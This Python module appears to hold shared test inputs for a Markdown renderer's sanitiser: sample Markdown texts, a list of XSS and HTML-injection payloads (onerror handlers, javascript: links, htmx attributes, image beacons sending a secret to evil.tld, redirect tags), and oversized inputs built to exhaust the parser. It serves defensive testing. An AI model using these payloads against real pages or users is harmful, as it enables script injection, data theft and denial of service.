"""Texts that several tests share: usual answers, and attacks from the plan (XS, EX, RD)."""

SAMPLES = {
    "everything": """# Title with `code` and *emphasis*

Hello **bold text**, `code`, ~~gone~~ and [a link](https://example.org/path?a=1&b=2 "title"). It costs $5 and $10.
A second line with a hard break\\
and https://example.org/auto, www.example.org. Mail a@example.org.

Setext
======

- one
- two **bold**
  - nested *item*
    with a second line
- [ ] open task
- [x] done task

1. first

   a paragraph of its own
2. second

   ```python
   def f(x):
       return x < 2  # comment
   ```
3. third

> quote
> - list in it
>
> more

| Name | Value | Text |
|:-----|------:|:----:|
| a | 1 | `x \\| y` |
| **b** | $x^2$ | [l](http://x.y) |
| c |

---

Inline $a_1 + b^2$, \\(c \\le d\\) and

$$
\\frac{a}{b}
+ c
= d
$$

\\[
\\sum_{i=1}^n i
\\]

```
plain code
```

    indented code

    more of it

![an image](https://img.example.org/x.png)

A note[^1].

[^1]: The note.

```js
open = "fence
""",
    "chinese": """## 如何使用

**你好，世界。**这是一个*例子*，包括`代码`和“**引用**”。价格是 $5，不是 $10。

1. 第一项：**重点**说明。
2. 第二项，链接[在这里](https://example.org/中文)。

| 名称 | 说明 |
|---|---|
| 甲 | 很长的说明文字，没有空格，也没有换行。 |
""",
    "unclosed": "A *stray star and `a tick and [a bracket and $a dollar and <a tag\n\n- x\n- **y\n\n```\ncode",
    "no pipes": "a | b\n--|--\n1 | 2\n3 | 4\n\nafter",
    "quotes": "> one\nlazy\n>> deeper\n> ```\n> code\nout\n\n> 1. a\n>    b\n> 2. c\n",
    "returns": "one\r\ntwo\r\n\r\n- a\r\n- b\r\n",
}

ATTACKS = [
    "<img src=x onerror=alert(1)>",
    '<a href="',
    "<!--",
    "<style>*{display:none}",
    "<textarea>",
    "<plaintext>",
    '<svg><title><a id="</title><img src=x onerror=alert(1)>">',
    "```../../etc\nx\n```\n\n```text/html\n<b>\n```\n\n```raw\n<b>\n```\n\n```svg\n<svg onload=x>\n```",
    '```mermaid\nclick A "javascript:alert(1)"\n```',
    '```py" onclick="x\nx\n```\n\n``` <hx-partial>\nx\n```\n\n~~~ <script>\nx\n~~~',
    "[a](javascript:alert(1)) [a](JaVaScRiPt&colon;alert(1)) [a](java\nscript:x) [a](\x01javascript:x)",
    "[a](data:text/html;base64,PHNjcmlwdD4=) [a](vbscript:x) <javascript:alert(1)>",
    "[a][x]\n\n[x]: javascript:alert(1)\n\n[x]",
    "[a](vscode://x) [a](ms-msdt:/id) [a](search-ms:q) [a](smb://h/s) [a](file:///x)",
    "[a](//evil.tld) [a](\\\\evil\\share) [a](/admin/) [a](?x) [a](x) [a](<//evil.tld>) [a](http:/x) [a](https://)",
    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{http://evil}$ $\\htmlClass{a}{x}$ $\\url{javascript:x}$",
    "$$\\undefined{<img src=x onerror=alert(1)>}$$ $\\text{<hx-partial>}$ $<hx-partial id=x>$",
    "$\\def\\a{\\a\\a}\\a$ $\\rule{999999em}{999999em}$ $\\hspace{9999em}$",
    '```mermaid\n%%{init:{"securityLevel":"loose"}}%%\ngraph TD; A["<img onerror=x>"]\n```',
    '<div hx-get="/api/keys" hx-trigger=load> <div hx-swap-oob="true" id="composer"> <div data-hx-post=/x>',
    "<div hx-on:load=x> <script hx-get=/x> <template> <head><title>x</title></head> <hx-partial hx-target=#composer>",
    '<details type="tool_calls"><summary>x</summary></details> <span class="system">System:</span>',
    "\u202egnp.exe \u2066x\u2069 `\u202e` [\u202e](http://x/\u202e) \U000e0041\U000e0042\n\n```\n\u202e\n```",
    '[a](http://x/ "<hx-partial id=composer>") ![<hx-b>](http://x/<hx-c> "<head>") <http://x/<script>> http://x/<title>',
    "![x](https://evil.tld/?q=SECRET) [![](http://a/b)](http://c/d) ![a][r] <img src=http://evil>\n\n[r]: http://evil.tld/x",
    "![x](/files/1) ![x](/proxy?url=http://a) ![](http://localhost:8000/logout) ![](data:image/svg+xml,x)",
    "| a | b |\n|---|---|\n| <script> | ![x](http://x) |\n| `<hx-a>` | [x](javascript:y) |",
    "[^<hx-a>]: note <script>\n\ntext[^<hx-a>] [^1]\n\n[^1]: x",
    "# <script>\n\n<title>\n===\n\n- <head>\n- <hx-x>\n\n> <template>",
    "&lt;script&gt; &#60;hx-partial&#62; \\<script> `&lt;hx-a>` &NewLine;javascript:",
    "<a\nhref=javascript:x>\n<?php <![CDATA[ <!DOCTYPE html> </div></p></article>",
    "<base href=http://evil.tld/> <meta http-equiv=refresh content=0;url=http://evil> <link rel=prefetch href=//evil>",
    "<form action=http://evil.tld><input name=id autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x",
    '<video poster=http://evil.tld src=x onerror=alert(1)> <img srcset="http://evil.tld 1x"> <a ping=http://evil.tld>x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'> <object data=javascript:alert(1)> <embed src=http://evil.tld>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'> </textarea><script>x()</script> </title></style>",
    "<var>0</var> $x$ <var>1</var> [<var>0</var>](http://x/<var>0</var>) `<var>0</var>`\n\n```<var>\n<var>0</var>\n```",
    "<\ufdd0script> %EF%B7%90 [a](http://x/\ufdd0<b>) [a](java\ufdd0script:alert(1)) <\0script> \ud800<script>",
    "<hx-action> <hx-partial id=messages hx-swap=innerHTML></hx-partial> </template> <body hx-get=/> <html>",
    '[a](http://x"onmouseover="alert(1)) [a](http://x\'onclick=\'x) ![" onerror="x](http://x) <http://x"onclick="alert(1)>',
    'https://evil.tld/<script> www.evil.tld/"onclick=x http://user:pw@evil.tld/ mailto:a@b.c?body=<x> xmpp:a@b.c',
]

# Texts that would take for ever, or fill the page, if nothing bounded them.
BOMBS = {
    "quotes": ">" * 50_000 + "a",
    "lists": "- " * 50_000 + "a",
    "nested list": "".join("  " * depth + "- a\n" for depth in range(300)),
    "brackets": "[" * 100_000,
    "stars": "*" * 100_000 + "a",
    "open stars": "*a " * 50_000,
    "mixed stars": "**a *b " * 20_000,
    "underscores": "_a " * 50_000,
    "links": "[a](" * 40_000,
    "images": "![a](http://x)" * 10_000,
    "backticks": "".join("`" * length + "a" for length in range(500)),
    "wide table": "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + "|a\n" * 2_000,
    "long table": "|a|b|c|d\n|-|-|-|-\n" + "|a\n" * 30_000,
    "formulas": "\\(" * 50_000,
    "formulas on display": "\\[" * 50_000,
    "formulas on lines": "\\[\n" * 30_000,
    "dollars": "$a " * 40_000,
    "angles": "<a " * 50_000,
    "entities": "&" * 100_000,
    "domains": "a." * 50_000,
    "hosts": "www." * 40_000,
    "mail": "a@" * 50_000,
    "footnotes": "[^1]" * 20_000 + "\n\n[^1]: x",
    "definitions": "[a]: /x\n" * 20_000,
    "one line": "word" * 50_000,
    "blank lines": "\n" * 200_000,
    "spaces": " " * 200_000 + "a",
    "backslashes": "\\" * 200_000,
    "rules": "- " * 40_000 + "\n" + "---\n" * 20_000,
    "many blocks of code": "```py\nx = 1\n```\n" * 3_000,
    "brackets after an address": "http://a.example/" + ")" * 200_000,
    "many brackets after addresses": ("http://a.example/" + ")." * 1_900 + " ") * 60,
    "mail addresses": "a@b.c " * 20_000,
    "table rules": "|-|\n" * 50_000,
    "small tables": "|a|\n|-|\n|b|\n\n" * 10_000,
    "python": ("```py\n" + ("(x)+" * 450 + "\n") * 11 + "\n```\n") * 10,
    "formulas of primes": ("$$a" + "'" * 4_500 + "$$\n\n") * 40,
    "macros": ("$$\\def\\a{" + "x" * 4_000 + "}" + "\\a" * 190 + "$$\n\n") * 40,
    "endless headers": "|a\n" * 50_000 + "|-|\n",
    "quotes in code": "```sql\n" + ("'" * 1_900 + "\n") * 9 + "```",
}
